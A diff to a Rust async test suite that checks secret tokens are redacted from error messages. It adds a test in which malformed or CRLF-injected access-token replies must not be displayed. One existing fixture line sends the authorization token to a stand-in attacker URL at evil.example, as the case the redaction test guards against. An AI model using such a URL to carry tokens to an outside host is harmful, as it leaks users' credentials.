@@ -153,3 +153,14 @@ async fn a_next_page_that_repeats_the_token_is_cleaned() {
     let toml = "[[effect]]\n[effect.page]\nnext = 'https://evil.example/?t={authorization}'";
     Case::plan(toml).run().await.stops(Kind::Service, PAGE as usize, "page 1").says("[redacted]");
 }
+
+#[tokio::test]
+async fn a_token_reply_that_is_no_good_is_not_shown() {
+    for body in
+        [r#"{"access_token":"sbx.cut"#, r#"{"access_token":"sbx.a\r\nb"}"#, r#"{"token":"sbx.wrong"}"#]
+    {
+        let toml =
+            format!("[[effect]]\nwhen = {{ on = 'token' }}\n[effect.reply]\nstatus = 200\nbody = '{body}'");
+        Case::plan(&toml).run().await.stops(Kind::Service, 0, "no token").says("not shown");
+    }
+}
